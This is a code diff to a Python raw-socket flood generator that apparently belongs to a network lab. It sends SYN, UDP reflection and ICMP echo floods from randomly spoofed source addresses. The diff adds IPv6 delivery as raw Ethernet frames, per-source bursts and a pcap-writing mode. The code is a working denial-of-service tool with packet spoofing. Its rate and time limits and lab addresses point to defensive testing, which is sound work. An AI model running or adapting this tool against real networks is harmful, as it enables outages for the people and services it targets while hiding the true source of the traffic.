@@ -3,16 +3,24 @@
 """lab/rawflood.py: the lab's own raw-socket flood sender, for behaviours
 the packaged tools do not make: SYN floods from many spoofed sources with a
 Linux-like TCP fingerprint, UDP amplification/reflection replies, and ICMP
-echo floods from many spoofed sources.
+echo floods from many spoofed sources, over IPv4 and IPv6.
 
   python3 lab/rawflood.py syn DST --port P --count N --pps R --spoof CIDR
-      [--ttl T] [--win W] [--payload B] [--linux-options]
+      [--burst K] [--ttl T] [--win W] [--payload B] [--linux-options]
   python3 lab/rawflood.py reflect DST --sport S --count N --pps R --spoof CIDR
-      [--size A-B] [--ttl T] [--dport P]
+      [--burst K] [--size A-B] [--ttl T] [--dport P]
   python3 lab/rawflood.py udp DST --count N --pps R --spoof CIDR [--size A-B]
-      [--ttl T] [--dport P]
+      [--burst K] [--ttl T] [--dport P]
   python3 lab/rawflood.py icmp DST --count N --pps R --spoof CIDR [--size A-B]
-      [--ttl T] [--same-id]
+      [--burst K] [--ttl T] [--same-id]
+
+Examples:
+  python3 lab/rawflood.py syn 10.199.0.10 --port 80 --count 2000 --pps 1000 \
+      --spoof 10.128.0.0/11 --linux-options        # a SYN per source, spread
+  python3 lab/rawflood.py icmp fd99::10 --count 500 --pps 500 \
+      --spoof fd99:15::/48 --burst 20 --dev eth0 --dst-mac 02:00:00:00:00:01
+  python3 lab/rawflood.py icmp fd99::10 --count 50 --pps 50 \
+      --spoof fd99:15::/32 --write icmp6.pcap      # no root, no network
 
 syn: TCP SYNs to DST:P, each from a random address of --spoof and a random
 source port (a new flow each), optionally with MSS, SACK, timestamp and
@@ -23,7 +31,15 @@ port P), as the replies that reflectors send to a spoofed victim.
 udp: a plain UDP flood: the same from random source ports (a flow each).
 icmp: ICMP echo requests of A..B bytes of data, each from a random address
 of --spoof with a random id (a new flow each), or one id for all
-(--same-id: one flow per source address).
+(--same-id: one flow per source address); ICMPv6 echo requests for an
+IPv6 DST.
+
+--burst K: K packets in a row from each source address drawn (1: every
+packet from a new one), each still a new flow (a new port or ICMP id).
+IPv4 goes out of a raw socket (the kernel adds the Ethernet header);
+IPv6 as whole frames on --dev to --dst-mac (an AF_PACKET socket: the
+attacker needs no IPv6 address or route). --write FILE writes the frames
+to a capture (pcap, timestamps at --pps from 0) instead.
 
 Bounded: --count packets at --pps packets per second, at most 60 s. Needs
 root (a raw socket). Seeded (--seed). Standard library only.
@@ -46,6 +62,11 @@ def csum(data):
     return ~s & 0xFFFF
 
 
+def ip6(src, dst, nh, payload, hlim, flow=0):
+    return struct.pack("!IHBB16s16s", 6 << 28 | flow, len(payload), nh, hlim,
+                       src.packed, dst.packed) + payload
+
+
 def ip4(src, dst, proto, payload, ttl, ident):
     h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), ident, 0x4000, ttl, proto, 0,
                     src.packed, dst.packed)
@@ -53,7 +74,15 @@ def ip4(src, dst, proto, payload, ttl, ident):
 
 
 def l4sum(src, dst, proto, seg):
+    # IPv6's pseudo header (a 32-bit length, 3 zero bytes, the next header)
+    # sums to the same 16-bit words as IPv4's for any segment under 64 KiB
     return csum(src.packed + dst.packed + struct.pack("!xBH", proto, len(seg)) + seg)
+
+
+def ip_pkt(src, dst, proto, seg, ttl, rng):
+    if dst.version == 6:
+        return ip6(src, dst, proto, seg, ttl)
+    return ip4(src, dst, proto, seg, ttl, rng.getrandbits(16))
 
 
 def syn(a, rng, src, dst):
@@ -68,7 +97,7 @@ def syn(a, rng, src, dst):
     seg = struct.pack("!HHIIBBHHH", rng.randint(1024, 65535), a.port, rng.getrandbits(32), 0,
                       off << 4, 0x02, a.win, 0, 0) + opts + payload
     seg = seg[:16] + struct.pack("!H", l4sum(src, dst, 6, seg)) + seg[18:]
-    return ip4(src, dst, 6, seg, a.ttl, rng.getrandbits(16))
+    return ip_pkt(src, dst, 6, seg, a.ttl, rng)
 
 
 def reflect(a, rng, src, dst):
@@ -77,16 +106,18 @@ def reflect(a, rng, src, dst):
     seg = struct.pack("!HHHH", a.sport or rng.randint(1024, 65535), a.dport or rng.randint(1024, 65535), 8 + n, 0) + body
     s = l4sum(src, dst, 17, seg) or 0xFFFF
     seg = seg[:6] + struct.pack("!H", s) + seg[8:]
-    return ip4(src, dst, 17, seg, a.ttl, rng.getrandbits(16))
+    return ip_pkt(src, dst, 17, seg, a.ttl, rng)
 
 
 def icmp(a, rng, src, dst):
     n = rng.randint(*a.size)
     ident = a.icmp_id if a.same_id else rng.getrandbits(16)
-    msg = struct.pack("!BBHHH", 8, 0, 0, ident, rng.getrandbits(16)) + \
+    v6 = dst.version == 6
+    msg = struct.pack("!BBHHH", 128 if v6 else 8, 0, 0, ident, rng.getrandbits(16)) + \
         bytes(rng.getrandbits(8) for _ in range(n))
-    msg = msg[:2] + struct.pack("!H", csum(msg)) + msg[4:]
-    return ip4(src, dst, 1, msg, a.ttl, rng.getrandbits(16))
+    s = l4sum(src, dst, 58, msg) if v6 else csum(msg)  # ICMPv6 sums a pseudo header
+    msg = msg[:2] + struct.pack("!H", s) + msg[4:]
+    return ip_pkt(src, dst, 58 if v6 else 1, msg, a.ttl, rng)
 
 
 def paced_send(send, packets, pps, name, limit_s=60):
@@ -108,6 +139,36 @@ def paced_send(send, packets, pps, name, limit_s=60):
         if time.monotonic() - t0 > limit_s:
             break
     return n
+
+
+def write_pcap(path, frames, pps):
+    """Whole frames into a pcap, the i-th at i / pps seconds; their number."""
+    n = 0
+    with open(path, "wb") as f:
+        f.write(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1))
+        for i, fr in enumerate(frames):
+            us = i * 1_000_000 // pps
+            f.write(struct.pack("<IIII", us // 1_000_000, us % 1_000_000, len(fr), len(fr)) + fr)
+            n += 1
+    return n
+
+
+def eth_header(dst_mac, src_mac, version):
+    return bytes.fromhex(dst_mac.replace(":", "")) + src_mac + \
+        struct.pack("!H", 0x86DD if version == 6 else 0x0800)
+
+
+def sources(net, rng, burst):
+    """Random host addresses of net (not its network or broadcast address),
+    drawn without listing them (a /11 has two million), each for `burst`
+    packets in a row."""
+    first, n = int(net.network_address), net.num_addresses
+    if n > 2:
+        first, n = first + 1, n - 2
+    while True:
+        a = type(net.network_address)(first + rng.randrange(n))
+        for _ in range(burst):
+            yield a
 
 
 def span(text):
@@ -134,23 +195,42 @@ def main():
     ap.add_argument("--payload", type=int, default=0)
     ap.add_argument("--size", type=span, default=(400, 1400))
     ap.add_argument("--linux-options", action="store_true")
+    ap.add_argument("--burst", type=int, default=1,
+                    help="packets in a row from each source address drawn (default 1)")
+    ap.add_argument("--dev", default="eth0", help="IPv6: the interface to send on (eth0)")
+    ap.add_argument("--dst-mac", default="02:00:00:00:00:01",
+                    help="IPv6 (and --write): the receiver's MAC address")
+    ap.add_argument("--write", metavar="FILE", help="write a pcap instead of sending")
     ap.add_argument("--seed", type=int, default=1)
     a = ap.parse_args()
     rng = random.Random(a.seed)
-    dst = ipaddress.IPv4Address(a.dst)
-    net = ipaddress.IPv4Network(a.spoof, strict=False)
-    # a random host of the prefix (not its network or broadcast address),
-    # drawn without listing them: a /11 has two million
-    first, n = int(net.network_address), net.num_addresses
-    if n > 2:
-        first, n = first + 1, n - 2
-    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    try:
+        dst = ipaddress.ip_address(a.dst)
+        net = ipaddress.ip_network(a.spoof, strict=False)
+    except ValueError as e:
+        ap.error(str(e))
+    if net.version != dst.version:
+        ap.error("--spoof and DST are of different IP versions")
+    if a.burst < 1 or a.count < 1 or a.pps < 1:
+        ap.error("--burst, --count and --pps must be at least 1")
     a.icmp_id = rng.getrandbits(16)
     if a.mode == "udp":
         a.sport = 0  # random per packet
     make = {"syn": syn, "reflect": reflect, "udp": reflect, "icmp": icmp}[a.mode]
-    packets = (make(a, rng, ipaddress.IPv4Address(first + rng.randrange(n)), dst)
-               for _ in range(a.count))
+    src = sources(net, rng, a.burst)
+    packets = (make(a, rng, next(src), dst) for _ in range(a.count))
+    if a.write:
+        eth = eth_header(a.dst_mac, bytes.fromhex("020000000002"), dst.version)
+        n = write_pcap(a.write, (eth + p for p in packets), a.pps)
+        print(f"rawflood: {a.mode}: {n} packets to {a.write}", file=sys.stderr)
+        return 0
+    if dst.version == 6:
+        s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+        s.bind((a.dev, 0))
+        eth = eth_header(a.dst_mac, s.getsockname()[4][:6], 6)
+        paced_send(lambda pkt: s.send(eth + pkt), packets, a.pps, "rawflood")
+        return 0
+    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     paced_send(lambda pkt: s.sendto(pkt, (a.dst, 0)), packets, a.pps, "rawflood")
     return 0
 
